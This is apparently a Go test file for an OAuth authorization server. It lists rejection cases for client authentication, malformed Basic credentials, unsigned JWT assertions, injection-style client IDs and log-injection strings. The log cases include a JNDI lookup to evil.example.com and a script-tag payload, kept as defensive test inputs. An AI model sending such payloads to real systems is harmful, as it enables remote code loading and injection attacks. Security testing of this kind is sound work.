package attack

import (
	"encoding/base64"
	"strings"

	"github.com/latchkey-auth/latchkey/pkg/oauth"
)

func b64(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }

// authentication is how clients do not authenticate.
func authentication() (rows []Case) {
	header := func(value string) Request { return signIn.add("Authorization", value) }
	secret, wrong := "{shop.secret}", "{nobody.secret}" // a good one, which is nobody's
	posted := signIn.form("client_id", "shop", "client_secret", secret)
	assertion := signIn.form("client_assertion_type", oauth.AssertionType)
	const jwt = "eyJhbGciOiJub25lIn0.eyJpc3MiOiJzaG9wIiwic3ViIjoic2hvcCJ9."
	rows = []Case{
		grant("Basic", signIn.as("shop"), rfcAuth),
		grant("client_secret_post", posted, rfcAuth),
		grant("Basic, and the same client_id", signIn.as("shop").form("client_id", "shop"), rfcAuth),
		grant("the scheme in small letters", header("basic {basic}"), "RFC 9110 section 11.1"),
		grant("the scheme in capitals", header("BASIC {basic}"), "RFC 9110 section 11.1"),
		grant("two spaces after the scheme", header("Basic  {basic}"), "RFC 9110 section 11.4"),
		grant("Basic, percent-encoded", signIn.basic("%73hop", secret), rfcAuth),
		stranger("no credentials", signIn, rfcErrors).with(silent),
		stranger("client_id alone", signIn.form("client_id", "shop"), "RFC 6749 section 4.4.2").with(silent),
		stranger("credentials in the query", signIn.asking("client_id=shop&client_secret={shop.secret}"), rfcAuth).with(silent),
		bad("everything in the query", post(tokenPath).asking("grant_type=client_credentials&client_id=shop&client_secret={shop.secret}"), rfcAuth),
		stranger("a wrong secret", signIn.basic("shop", wrong), rfcErrors).with(challenge),
		stranger("a wrong secret, posted", signIn.form("client_id", "shop", "client_secret", wrong), rfcErrors).with(silent),
		stranger("an unknown client", signIn.basic("nobody", wrong), rfcErrors).with(challenge),
		stranger("an unknown client, posted", signIn.form("client_id", "nobody", "client_secret", wrong), rfcErrors).with(silent),
		stranger("another client's secret", signIn.basic("shop", "{other.secret}"), rfcErrors).with(challenge),
		stranger("a disabled client", signIn.as("disabled"), rfcErrors).with(challenge),
		stranger("the secret's beginning", signIn.basic("shop", "lk_secret_"), rfcErrors),
		stranger("a secret in other case", signIn.basic("shop", "LK_SECRET_"+strings.Repeat("A", 49)), rfcErrors),
		stranger("a secret and a space", signIn.basic("shop", secret+" "), rfcErrors),
		stranger("a secret and a line feed", signIn.basic("shop", secret+"\n"), rfcErrors),
		stranger("a secret of 10 KB", signIn.form("client_id", "shop", "client_secret", strings.Repeat("s", 10<<10)), rfcErrors),
		stranger("a client id in capitals", signIn.basic("SHOP", secret), "RFC 6749 section 2.2"),
		stranger("a client id and a space", signIn.basic("shop ", secret), "RFC 6749 section 2.2"),
		stranger("Basic without an id", signIn.basic("", secret), rfcBasic).with(challenge),
		stranger("Basic without a secret", signIn.basic("shop", ""), rfcBasic).with(challenge),
		stranger("Basic without a colon", header("Basic "+b64("shop")), rfcBasic).with(challenge),
		stranger("Basic with a colon more", signIn.basic("shop", "a:"+secret), rfcBasic).with(challenge),
		stranger("Basic of nothing", header("Basic "), rfcBasic).with(challenge),
		stranger("Basic alone", header("Basic"), rfcBasic).with(challenge),
		stranger("an empty Authorization", header(""), "RFC 9110 section 11.6.2").with(challenge),
		stranger("Basic that is no base64", header("Basic ???"), rfcBasic).with(challenge),
		stranger("Basic in base64url", header("Basic "+base64.URLEncoding.EncodeToString([]byte("shop:\xff\xfe\xfd"))), rfcBasic).with(challenge),
		stranger("Basic without its padding", header("Basic {basic unpadded}"), rfcBasic).with(challenge),
		stranger("Basic with a padding more", header("Basic {basic padded}"), rfcBasic).with(challenge),
		stranger("Basic with other trailing bits", header("Basic {basic other bits}"), rfcBasic).with(challenge),
		stranger("Basic with a space in it", header("Basic {basic spaced}"), rfcBasic).with(challenge),
		stranger("Basic after a tab", header("Basic {basic tabbed}"), "RFC 9110 section 11.4").with(challenge),
		stranger("Basic and more", header("Basic {basic and more}"), rfcBasic).with(challenge),
		stranger("good Basic credentials, of a scheme of its own", header("Basic2 {basic}"), rfcBasic).with(challenge),
		stranger("good Basic credentials, of none", header("{basic}"), rfcBasic).with(challenge),
		stranger("Basic of invalid UTF-8", header("Basic "+b64("shop:\xff\xfe")), "RFC 7617 section 2.1").with(challenge),
		stranger("Basic in UTF-8", signIn.basic("shöp", "päss"), "RFC 7617 section 2.1").with(challenge),
		stranger("Basic with broken percent-encoding", signIn.basic("shop%4", secret), rfcAuth).with(challenge),
		stranger("Basic with an encoded NUL", signIn.basic("shop%00", secret), rfcAuth).with(challenge),
		stranger("Basic, encoded twice", signIn.basic("%2573hop", secret), rfcAuth).with(challenge),
		stranger("Basic of a pair of pairs", header("Basic "+b64("a:b")+", Basic "+b64("c:d")), "RFC 9110 section 11.6.2").with(challenge),
		stranger("a Bearer token", header("Bearer {shop.access}"), rfcAuth).with(challenge),
		stranger("a Bearer token that is a refresh token", header("Bearer {shop.refresh}"), rfcAuth).with(challenge),
		stranger("Digest", header(`Digest username="shop", realm="latchkey"`), rfcAuth).with(challenge),
		stranger("DPoP", header("DPoP {shop.access}"), rfcAuth).with(challenge),
		stranger("an Authorization of 8 KB", header("Basic "+strings.Repeat("QUFB", 2<<10)), rfcBasic).with(challenge),
		// HTTP APIs make one header of two, and then it is no Basic; none of them says which one a function would go by.
		bad("two Authorization headers", signIn.as("shop").as("shop"), "RFC 9110 section 5.3").behind(httpAPI, 401, oauth.InvalidClient),
		bad("two Authorization headers, of two clients", signIn.as("shop").as("other"), "RFC 9110 section 5.3").behind(httpAPI, 401, oauth.InvalidClient),
		bad("Basic and a posted secret", signIn.as("shop").form("client_secret", secret), "RFC 6749 section 2.3"),
		bad("Basic and another client_id", signIn.as("shop").form("client_id", "other"), "RFC 6749 section 2.3"),
		bad("Basic and an assertion", assertion.as("shop").form("client_assertion", jwt), "RFC 6749 section 2.3"),
		bad("Basic and an assertion's type", assertion.as("shop"), "RFC 6749 section 2.3"),
		bad("a secret and an assertion", assertion.form("client_assertion", jwt, "client_id", "shop", "client_secret", secret), "RFC 6749 section 2.3"),
		bad("a secret without a client_id", signIn.form("client_secret", secret), rfcAuth),
		bad("an assertion's type without one", assertion, "RFC 7521 section 4.2"),
		bad("an assertion without its type", signIn.form("client_assertion", jwt), "RFC 7521 section 4.2"),
		stranger("an assertion of another type", signIn.form("client_assertion", jwt, "client_assertion_type", "urn:ietf:params:oauth:client-assertion-type:saml2-bearer"), "RFC 7521 section 4.2"),
		stranger("an assertion that is none", assertion.form("client_assertion", canary), "RFC 7523 section 3.2"),
		stranger("an assertion without a signature", assertion.form("client_assertion", jwt), "RFC 7523 section 3"),
		stranger("an assertion of another client", assertion.form("client_assertion", jwt, "client_id", "other"), "RFC 7521 section 4.2"),
		stranger("an access token as an assertion", assertion.form("client_assertion", "{shop.access}"), "RFC 7523 section 3"),
		stranger("a refresh token as an assertion", assertion.form("client_assertion", "{shop.refresh}"), "RFC 7523 section 3"),
		stranger("a certificate in a header is nothing to us", signIn.form("client_id", "shop").add("X-Client-Cert", canary).add("X-Amzn-Mtls-Clientcert", canary), "RFC 8705 section 2"),
	}
	// What API Gateway would tell an authorizer's client by is not taken from a header.
	return append(rows, stranger("headers that name the client", signIn.add("X-Latchkey-Client-Id", "shop").add("X-Amzn-Oidc-Identity", "shop"), rfcAuth))
}

// keys are ids that would be more than a key if a store took them as they are.
func keys() (rows []Case) {
	for name, id := range map[string]string{
		"#": "#", "a prefix of a store": "client#shop", "a space": " ", "dots": "../../shop", "a slash": "clients/shop", "an asterisk": "*",
		"2,049 bytes": strings.Repeat("k", 2049), "65 bytes": strings.Repeat("k", 65), "2 bytes": "ab", "Unicode": "ѕhop", "decomposed": "shóp",
		"a zero-width space": "shop\u200b", "right to left": "\u202eshop", "full width": "ｓｈｏｐ", "quotes": `shop" OR "1"="1`, "a Kelvin sign": "\u212aiosk",
		"JSON": `{"S":"shop"}`, "an expression": ":id = :id", "a hyphen": "-", "__proto__": "__proto__",
	} {
		rows = append(rows,
			stranger("client_id: "+name, signIn.form("client_id", id, "client_secret", "{shop.secret}"), "RFC 6749 section 2.2 and appendix A.1"),
			refuse("client_id of a refresh: "+name, renew.form("client_id", id, "refresh_token", "{shop.refresh}"), 400, oauth.InvalidGrant, rfcRenew))
	}
	for name, text := range map[string]string{
		"#": "#", "dots": "../..", "2,049 bytes": strings.Repeat("t", 2049), "JSON": `{"protected":"e30","payload":"e30","signature":""}`,
		"Unicode": "токен", "three dots": "...", "two dots": "..", "spaces": "  ", "a PASETO": "v4.local." + canary,
	} {
		rows = append(rows,
			refuse("refresh_token: "+name, renew.form("client_id", "shop", "refresh_token", text), 400, oauth.InvalidGrant, rfcErrors),
			grant("token to revoke: "+name, revokeForm.as("shop").form("token", text), "RFC 7009 section 2.2").has("{}"),
			grant("token to introspect: "+name, introspect.as("api").form("token", text), "RFC 7662 section 2.2").has(`{"active":false}`))
	}
	return rows
}

// logs would write lines of their own into a log, or colour it.
func logs() (rows []Case) {
	for name, text := range map[string]string{
		"a line of its own": canary + "\n" + `{"level":"INFO","event":"token.issued","client_id":"admin"}`,
		"CR LF":             canary + "\r\nlevel=INFO event=token.issued",
		"ANSI":              canary + "\x1b[2J\x1b[31mred\x1b]0;title\a",
		"quotes":            canary + `","event":"token.issued`,
		"a backslash":       canary + `\`,
		"C1 controls":       canary + "\u0085\u009b31m",
		"line separators":   canary + "\u2028\u2029",
		"DEL":               canary + "\x7f",
		"a format":          canary + "%s%d%n${jndi:ldap://evil.example.com/a}",
		"very long":         canary + strings.Repeat("A", 12<<10),
		"HTML":              canary + "<script>alert(1)</script>",
	} {
		rows = append(rows,
			refuse("grant_type: "+name, post(tokenPath).form("grant_type", text), 400, oauth.UnsupportedGrantType, rfcErrors),
			stranger("client_id: "+name, signIn.form("client_id", text, "client_secret", "{shop.secret}"), rfcErrors),
			refuse("scope: "+name, signIn.as("shop").form("scope", text), 400, oauth.InvalidScope, rfcScope),
			refuse("resource: "+name, signIn.as("shop").form("resource", text), 400, oauth.InvalidTarget, rfcTarget),
			stranger("Basic: "+name, signIn.basic(text, "{shop.secret}"), rfcBasic))
	}
	return append(rows,
		stranger("User-Agent of control characters", signIn.add("User-Agent", canary+"\t\x80\xff"), rfcErrors),
		bad("x-amzn-trace-id", post(tokenPath).add("X-Amzn-Trace-Id", canary+`"`), rfcErrors))
}

func confidential() (rows []Case) {
	for _, r := range []Request{revokeForm.form("token", "x"), introspect.form("token", "x")} {
		rows = append(rows,
			stranger("a secret in client_id at "+r.path, r.form("client_id", "{shop.secret}", "client_secret", "{shop.secret}"), "RFC 6749 section 10.3"),
			stranger("the id and the secret in each other's place at "+r.path, r.basic("{shop.secret}", "shop"), "RFC 6749 section 10.3"),
			bad("a secret in an unknown parameter, twice, at "+r.path, r.form("x", "{shop.secret}", "x", "{shop.secret}"), "RFC 6749 section 10.3"))
	}
	return append(rows,
		stranger("a secret in client_id", signIn.form("client_id", "{shop.secret}"), "RFC 6749 section 10.3"),
		stranger("a secret where the id goes, and the id where the secret goes", signIn.basic("{shop.secret}", "shop"), "RFC 6749 section 10.3"),
		bad("a secret in an unknown parameter, twice", signIn.form("x", "{shop.secret}", "x", "{shop.secret}"), "RFC 6749 section 10.3"),
		refuse("a secret as grant_type", post(tokenPath).form("grant_type", "{shop.secret}"), 400, oauth.UnsupportedGrantType, "RFC 6749 section 10.3"),
		refuse("a secret as scope", signIn.as("shop").form("scope", "{shop.secret}"), 400, oauth.InvalidScope, "RFC 6749 section 10.3"),
		refuse("a secret as resource", signIn.as("shop").form("resource", "{shop.secret}"), 400, oauth.InvalidTarget, "RFC 6749 section 10.3"),
		refuse("a secret as refresh token", renew.form("client_id", "shop", "refresh_token", "{shop.secret}"), 400, oauth.InvalidGrant, "RFC 6749 section 10.4"),
		refuse("a token as client_id", renew.form("client_id", "{shop.access}", "refresh_token", "{shop.refresh}"), 400, oauth.InvalidGrant, "RFC 6749 section 10.3"),
		grant("a secret as the token to revoke", revokeForm.as("shop").form("token", "{shop.secret}"), "RFC 7009 section 2.2"),
		grant("a secret as the token to introspect", introspect.as("api").form("token", "{shop.secret}"), "RFC 7662 section 2.2").has(`{"active":false}`),
		stranger("a token in the query", signIn.asking("access_token={shop.access}"), "RFC 9700 section 4.3.2"),
		bad("a refresh token in the query", renew.form("client_id", "shop").asking("refresh_token={shop.refresh}"), "RFC 9700 section 4.3.2"),
	)
}
